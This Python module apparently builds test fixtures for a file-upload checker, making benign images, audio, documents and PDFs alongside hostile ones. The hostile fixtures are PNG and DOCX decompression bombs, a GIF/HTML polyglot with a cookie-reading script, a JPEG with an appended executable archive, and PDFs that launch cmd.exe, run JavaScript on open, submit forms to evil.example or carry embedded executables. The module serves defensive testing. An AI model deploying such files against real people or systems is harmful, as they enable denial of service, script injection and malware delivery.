"""Files that people send, and files that somebody made to do harm: each made here, in code."""

import io
import struct
import zipfile
import zlib

import pikepdf
import pillow_heif
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, PngImagePlugin

pillow_heif.register_heif_opener(thumbnails=False)

SCRIPT = b"<script>alert(document.cookie)</script>"
PNG = b"\x89PNG\r\n\x1a\n"
LAST_CHUNK = b"\x00\x00\x00\x00IEND\xaeB`\x82"
TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{}</Types>'
RELATED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    "{}</Relationships>"
)
WORDS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
DOCUMENT = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


# --- Pictures -----------------------------------------------------------------------------------------------------
def picture(kind="JPEG", size=(64, 48), **said):
    """A picture, red above and blue below."""
    image = Image.new("RGB", size, "blue")
    image.paste("red", (0, 0, size[0], size[1] // 2))
    out = io.BytesIO()
    image.save(out, kind, **said)
    return out.getvalue()


def exif_of_home(orientation=None):
    """What a telephone writes beside a picture: where it was taken, by what."""
    exif = Image.Exif()
    exif[0x010F] = "Acme Phones"
    if orientation:
        exif[0x0112] = orientation
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2], gps[3], gps[4] = "N", (51.0, 30.0, 12.0), "W", (0.0, 7.0, 30.0)
    return exif


def chunk(name, data):
    return struct.pack("!L", len(data)) + name + data + struct.pack("!L", zlib.crc32(name + data))


def png_of(width, height, data=b""):
    """A PNG that says it is so large, one bit a point."""
    return PNG + chunk(b"IHDR", struct.pack("!LLBBBBB", width, height, 1, 0, 0, 0, 0)) + data


def png_bomb(width=10_000, height=10_000):
    """Few bytes that unpack to a hundred million points."""
    rows = zlib.compress(b"\0" * ((width // 8 + 1) * height), 9)
    return png_of(width, height, chunk(b"IDAT", rows)) + LAST_CHUNK


def png_of_text():
    """A small picture whose text unpacks to four megabytes."""
    said = PngImagePlugin.PngInfo()
    said.add_text("Comment", "a" * 4_000_000, zip=True)
    return picture("PNG", pnginfo=said)


def gif_and_page():
    """A GIF that is a web page too: the comment of its script begins in the width."""
    whole = picture("GIF")
    return whole[:-1] + b"\x21\xfe" + bytes([len(SCRIPT)]) + SCRIPT + b"\x00" + b"\x3b" + b"<html>" + SCRIPT


def jpeg_and_zip():
    """A JPEG with a packed program behind it, which opens as both."""
    return picture() + packed({"setup.exe": b"MZ" + b"\0" * 64})


# --- Packed files and documents -----------------------------------------------------------------------------------
def packed(parts, **more):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, **more) as file:
        for name, data in parts.items():
            file.writestr(name, data)
    return out.getvalue()


def docx(main=DOCUMENT, relations="", text="<w:p/>", **parts):
    body = f'<w:document xmlns:w="{WORDS}"><w:body>{text}</w:body></w:document>'
    override = f'<Override PartName="/word/document.xml" ContentType="{main}"/>'
    return packed(
        {
            "[Content_Types].xml": TYPES.format(override),
            "_rels/.rels": RELATIONS.format(
                f'<Relationship Id="r1" Type="{RELATED}officeDocument" Target="word/document.xml"/>'
            ),
            "word/document.xml": body,
            "word/_rels/document.xml.rels": RELATIONS.format(relations),
            **parts,
        }
    )


def relation(kind, target):
    return f'<Relationship Id="r9" TargetMode="External" Target="{target}" Type="{RELATED}{kind}"/>'


def docx_with_macros():
    return docx(
        main="application/vnd.ms-word.document.macroEnabled.main+xml",
        **{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 Sub"},
    )


def docx_bomb():
    """A document whose part unpacks to thirty megabytes."""
    return docx(**{"word/media/image1.bmp": b"\0" * 30_000_000})


# --- PDFs ---------------------------------------------------------------------------------------------------------
def written(pdf, **more):
    out = io.BytesIO()
    pdf.save(out, **more)
    return out.getvalue()


def pdf():
    made = pikepdf.new()
    made.add_blank_page()
    return made


def pdf_that_acts():
    """A PDF that runs a script when opened, starts a program, sends a form, and carries a file."""
    made = pdf()
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert('hello')"))
    made.Root.OpenAction = made.make_indirect(script)
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), made.make_indirect(script)])))
    made.attachments["setup.exe"] = b"MZ program"
    page = made.pages[0].obj
    page.AA = Dictionary(O=Dictionary(S=Name.Launch, F=String("cmd.exe")))
    link = {"Type": Name.Annot, "Subtype": Name.Link, "Rect": Array([0, 0, 9, 9])}
    acts = [
        Dictionary(S=Name.Launch, Win=Dictionary(F=String("cmd.exe"))),
        Dictionary(S=Name.URI, URI=String("javascript:alert(1)")),
        Dictionary(S=Name.SubmitForm, F=String("https://evil.example/")),
        Dictionary(S=Name.URI, URI=String("https://school.example/")),
    ]
    made_acts = [made.make_indirect(Dictionary(**link, A=act)) for act in acts]
    attached = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]))
    page.Annots = Array([*made_acts, made.make_indirect(attached)])
    made.Root.AcroForm = Dictionary(Fields=Array([]), XFA=made.make_stream(b"<xdp><script>xfa.host</script></xdp>"))
    with made.open_metadata() as said:
        said["dc:creator"] = ["Alfredina Farrowby"]
    return written(made)


LINK = {"Type": Name.Annot, "Subtype": Name.Link, "Rect": Array([0, 0, 9, 9])}
WAYS_TO_ACT = (
    "when it is opened",
    "when a page is opened",
    "in a trigger of a field's parent",
    "in a link",
    "after a harmless one",
    "in a list after a harmless one",
    "in the table of contents",
    "among the scripts of its names",
)


def pdf_with_action(act, way, *, is_apart):
    """A PDF that does something, at one of the places from which a reader does it; the action an object of its own."""
    made = pdf()
    page, act = made.pages[0].obj, Dictionary(**act)
    act = made.make_indirect(act) if is_apart else act

    def apart(value):
        return made.make_indirect(value) if is_apart else value

    if way == "when it is opened":
        made.Root.OpenAction = act
    elif way == "when a page is opened":
        page.AA = apart(Dictionary(Type=Name.Foo, O=act))
    elif way == "in a trigger of a field's parent":
        field = Dictionary(T=String("a"), AA=apart(Dictionary(K=act)), Kids=Array([]))
        made.Root.AcroForm = Dictionary(Fields=Array([made.make_indirect(field)]))
    elif way in ("in a link", "after a harmless one", "in a list after a harmless one"):
        harmless = Dictionary(S=Name.GoTo, D=Array([page, Name.Fit]))
        if way != "in a link":
            harmless.Next = act if way == "after a harmless one" else apart(Array([act]))
        page.Annots = Array([made.make_indirect(Dictionary(**LINK, A=act if way == "in a link" else apart(harmless)))])
    elif way == "in the table of contents":
        first = made.make_indirect(Dictionary(Title=String("a"), A=act))
        made.Root.Outlines = made.make_indirect(Dictionary(First=first, Last=first, Count=1))
    else:
        leaf = apart(Dictionary(Names=Array([String("a"), act]), Limits=Array([String("a"), String("a")])))
        made.Root.Names = apart(Dictionary(JavaScript=apart(Dictionary(Kids=Array([leaf])))))
    return written(made)


WAYS_TO_CARRY = ("with the file", "with a page", "with a picture of it", "in its names", "in a mark", "behind a key")


def pdf_that_carries(way, kind, *, is_apart):
    """A PDF with a file attached at one of the places where one may be, what says where it is called `kind`."""
    made = pdf()
    page, called = made.pages[0].obj, {"Type": Name(f"/{kind}")} if kind else {}

    def apart(value):
        return made.make_indirect(value) if is_apart else value

    stream = made.make_stream(b"MZ SECRET", Type=Name.EmbeddedFile)
    said = Dictionary(F=String("a.exe"), EF=apart(Dictionary(**called, F=stream)), **called)
    if way == "with the file":
        made.Root.AF = apart(Array([apart(said)]))
    elif way == "with a page":
        page.AF = apart(said)
    elif way == "with a picture of it":
        page.Resources = Dictionary(XObject=Dictionary(Im0=made.make_stream(b"", Subtype=Name.Form, AF=Array([said]))))
    elif way == "in its names":
        leaf = apart(Dictionary(Names=Array([String("a"), apart(said)])))
        made.Root.Names = apart(Dictionary(EmbeddedFiles=apart(Dictionary(Kids=Array([leaf])))))
    elif way == "in a mark":
        page.Annots = Array([made.make_indirect(Dictionary(**LINK, FS=apart(said)))])
    else:
        page.PtrToIt = apart(said)
    return written(made)


def pdf_with_odd_names():
    """A PDF that only shows: its fonts and pictures have the names of keys that elsewhere act."""
    made = pdf()
    page = made.pages[0].obj
    font = made.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    form = made.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 1, 1]))
    profile = made.make_stream(b"", N=3)
    page.Resources = Dictionary(
        Font=Dictionary(AA=font, EF=font, AF=font, JS=font),
        XObject=Dictionary(AA=form, EF=form, AF=form),
        ColorSpace=Dictionary(AF=Array([Name.ICCBased, profile])),
    )
    page.Group = Dictionary(S=Name.Transparency)
    made.Root.PageLabels = Dictionary(Nums=Array([0, Dictionary(S=Name.D)]))
    made.Root.StructTreeRoot = Dictionary(Type=Name.StructTreeRoot, K=Dictionary(Type=Name.StructElem, S=Name.P))
    inside = Dictionary(S=Name.GoTo, D=Array([page, Name.Fit]))
    outside = Dictionary(Type=Name.Action, S=Name.URI, URI=String("https://school.example/"))
    page.Annots = Array([made.make_indirect(Dictionary(**LINK, A=act)) for act in (inside, outside)])
    return written(made)


def pdf_with_password():
    return written(pdf(), encryption=pikepdf.Encryption(user="secret", owner="secret"))


def pdf_of_photo():
    """A scan whose picture tells where it was taken, as telephones put pictures into PDFs."""
    made = pdf()
    image = made.make_stream(picture(exif=exif_of_home()))
    image.Type, image.Subtype, image.Filter = Name.XObject, Name.Image, Name.DCTDecode
    image.Width, image.Height, image.BitsPerComponent, image.ColorSpace = 64, 48, 8, Name.DeviceRGB
    made.pages[0].obj.Resources = Dictionary(XObject=Dictionary(Im0=image))
    return written(made)


def pdf_of_huge_picture():
    made = pdf()
    image = made.make_stream(b"\0")
    image.Type, image.Subtype, image.Width, image.Height = Name.XObject, Name.Image, 100_000, 100_000
    made.pages[0].obj.Resources = Dictionary(XObject=Dictionary(Im0=image))
    return written(made)


# --- Sound and film -----------------------------------------------------------------------------------------------
def film(brand=b"isom"):
    """The beginning of an MP4, as sniffers know it."""
    head = b"ftyp" + brand + b"\0\0\2\0" + brand + b"iso2avc1mp41"
    return struct.pack("!L", len(head) + 4) + head + struct.pack("!L", 16) + b"mdat" + b"\0" * 8


def sound():
    """An MP3 with its tag."""
    frame = b"\xff\xfb\x90\x64" + b"\0" * 413
    return b"ID3\x04\x00\x00\x00\x00\x00\x00" + frame * 8
